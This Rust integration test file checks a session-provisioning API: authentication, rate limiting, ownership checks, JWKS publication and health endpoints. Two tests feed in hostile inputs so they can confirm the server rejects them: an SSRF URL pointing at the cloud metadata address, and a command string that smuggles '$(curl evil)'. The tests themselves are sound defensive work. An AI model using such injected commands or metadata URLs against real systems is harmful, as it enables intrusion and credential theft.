use serde_json::json;
use wscli_capability::key_set::PublicKeySet;
use wscli_store::SessionStore as _;
use wscli_capability::verify::RemoteKeySet;
use wscli_types::api::v1::{CreateSessionResponse, SessionView};

use crate::setup::{ALICE_KEY, BOB_KEY, POD_IP, PlacementMode, TestController};

mod setup;

fn bearer(key: &str) -> String {
    format!("Bearer {key}")
}

async fn create_session(node: &TestController, key: &str) -> axum_test::TestResponse {
    node.server
        .post("/api/sessions")
        .add_header("authorization", bearer(key))
        .json(&json!({
            "codeUrl": "https://github.com/x/y.git",
            "command": "npm test",
        }))
        .await
}

#[tokio::test]
async fn happy_path_provisions_session_and_token() -> eyre::Result<()> {
    let node = TestController::start(PlacementMode::Immediate).await?;

    let response = create_session(&node, ALICE_KEY).await;
    response.assert_status_ok();
    let body: CreateSessionResponse = response.json();
    assert_eq!(body.ws_url, format!("/ws/{}", body.session_id));

    // the session row exists with the discovered pod IP
    let record = node
        .store
        .get_session(body.session_id)
        .await?
        .expect("session row exists");
    assert_eq!(record.pod_ip, Some(POD_IP.parse()?));
    assert!(record.pod_name.is_some());
    assert_eq!(record.job_name, body.session_id.job_name());

    // the token verifies against the published key set and is recorded
    let key_set = RemoteKeySet::new(format!("{}/.well-known/jwks.json", node.base_url()));
    let claims = key_set.verify_attach(&body.token).await?;
    assert_eq!(claims.sid, body.session_id);
    assert_eq!(claims.sub, "alice");
    assert!(node.store.token_id_exists(claims.jti));

    // exactly one job went to the orchestrator
    let jobs = node.orchestrator.submitted_jobs();
    assert_eq!(jobs.len(), 1);
    assert_eq!(jobs[0].job_name, record.job_name);
    assert_eq!(jobs[0].code_url, "https://github.com/x/y.git");
    assert_eq!(jobs[0].command.as_deref(), Some("npm test"));
    Ok(())
}

#[tokio::test]
async fn missing_or_wrong_credentials_are_unauthorized() -> eyre::Result<()> {
    let node = TestController::start(PlacementMode::Immediate).await?;

    let response = node
        .server
        .post("/api/sessions")
        .json(&json!({"codeUrl": "https://github.com/x/y.git"}))
        .await;
    response.assert_status_unauthorized();

    let response = create_session(&node, "wrong-key").await;
    response.assert_status_unauthorized();

    assert_eq!(node.store.session_count(), 0);
    assert!(node.orchestrator.submitted_jobs().is_empty());
    Ok(())
}

#[tokio::test]
async fn ssrf_code_url_is_rejected_without_side_effects() -> eyre::Result<()> {
    let node = TestController::start(PlacementMode::Immediate).await?;

    let response = node
        .server
        .post("/api/sessions")
        .add_header("authorization", bearer(ALICE_KEY))
        .json(&json!({"codeUrl": "http://169.254.169.254/meta"}))
        .await;
    response.assert_status_bad_request();
    response.assert_text_contains("forbidden address");

    assert_eq!(node.store.session_count(), 0);
    assert!(node.orchestrator.submitted_jobs().is_empty());
    Ok(())
}

#[tokio::test]
async fn substitution_syntax_in_command_is_rejected_without_side_effects() -> eyre::Result<()> {
    let node = TestController::start(PlacementMode::Immediate).await?;

    let response = node
        .server
        .post("/api/sessions")
        .add_header("authorization", bearer(ALICE_KEY))
        .json(&json!({
            "codeUrl": "https://github.com/x/y.git",
            "command": "npm start; $(curl evil)",
        }))
        .await;
    response.assert_status_bad_request();
    response.assert_text_contains("substitution");

    assert_eq!(node.store.session_count(), 0);
    assert!(node.orchestrator.submitted_jobs().is_empty());
    Ok(())
}

#[tokio::test]
async fn discovery_timeout_reports_the_session_and_leaves_the_row() -> eyre::Result<()> {
    let node = TestController::start_with(PlacementMode::Never, |config| {
        config.pod_discovery_timeout = std::time::Duration::from_millis(100);
    })
    .await?;

    let response = create_session(&node, ALICE_KEY).await;
    response.assert_status_internal_server_error();
    response.assert_text_contains("pod discovery timed out for session");

    // the row stays for the expiry sweep; no token was recorded
    assert_eq!(node.store.session_count(), 1);
    assert_eq!(node.store.token_count(), 0);
    Ok(())
}

#[tokio::test]
async fn rate_limit_rejects_with_retry_after() -> eyre::Result<()> {
    let node = TestController::start_with(PlacementMode::Immediate, |config| {
        config.rate_limit_max = 2;
    })
    .await?;

    create_session(&node, ALICE_KEY).await.assert_status_ok();
    create_session(&node, ALICE_KEY).await.assert_status_ok();

    let response = create_session(&node, ALICE_KEY).await;
    response.assert_status(axum::http::StatusCode::TOO_MANY_REQUESTS);
    let retry_after = response.header("retry-after");
    assert!(!retry_after.is_empty());

    // other callers are unaffected
    create_session(&node, BOB_KEY).await.assert_status_ok();
    Ok(())
}

#[tokio::test]
async fn get_session_enforces_shape_ownership_and_presence() -> eyre::Result<()> {
    let node = TestController::start(PlacementMode::Immediate).await?;
    let created: CreateSessionResponse = create_session(&node, ALICE_KEY).await.json();

    // owner reads it back, twice, with a stable pod IP
    for _ in 0..2 {
        let response = node
            .server
            .get(&format!("/api/sessions/{}", created.session_id))
            .add_header("authorization", bearer(ALICE_KEY))
            .await;
        response.assert_status_ok();
        let view: SessionView = response.json();
        assert_eq!(view.session_id, created.session_id);
        assert_eq!(view.pod_ip, Some(POD_IP.parse()?));
    }

    // another caller is forbidden
    node.server
        .get(&format!("/api/sessions/{}", created.session_id))
        .add_header("authorization", bearer(BOB_KEY))
        .await
        .assert_status_forbidden();

    // an unknown id is not found
    node.server
        .get("/api/sessions/11111111-1111-4111-8111-111111111111")
        .add_header("authorization", bearer(ALICE_KEY))
        .await
        .assert_status_not_found();

    // a malformed id is rejected before the store is touched
    node.server
        .get("/api/sessions/not-a-session-id")
        .add_header("authorization", bearer(ALICE_KEY))
        .await
        .assert_status_bad_request();
    Ok(())
}

#[tokio::test]
async fn jwks_document_is_published() -> eyre::Result<()> {
    let node = TestController::start(PlacementMode::Immediate).await?;
    let response = node.server.get("/.well-known/jwks.json").await;
    response.assert_status_ok();
    let key_set: PublicKeySet = response.json();
    assert_eq!(key_set.keys.len(), 1);
    assert_eq!(key_set.keys[0].kty, "OKP");
    assert_eq!(key_set.keys[0].alg, "EdDSA");
    assert_eq!(key_set.keys[0].key_use, "sig");
    Ok(())
}

#[tokio::test]
async fn health_and_readiness_report_ok() -> eyre::Result<()> {
    let node = TestController::start(PlacementMode::Immediate).await?;

    let response = node.server.get("/healthz").await;
    response.assert_status_ok();
    response.assert_text_contains("connected");

    // the sweep task flips readiness on its first tick
    for _ in 0..50 {
        if node.server.get("/readyz").await.status_code() == axum::http::StatusCode::OK {
            return Ok(());
        }
        tokio::time::sleep(std::time::Duration::from_millis(10)).await;
    }
    panic!("readiness never turned ok");
}
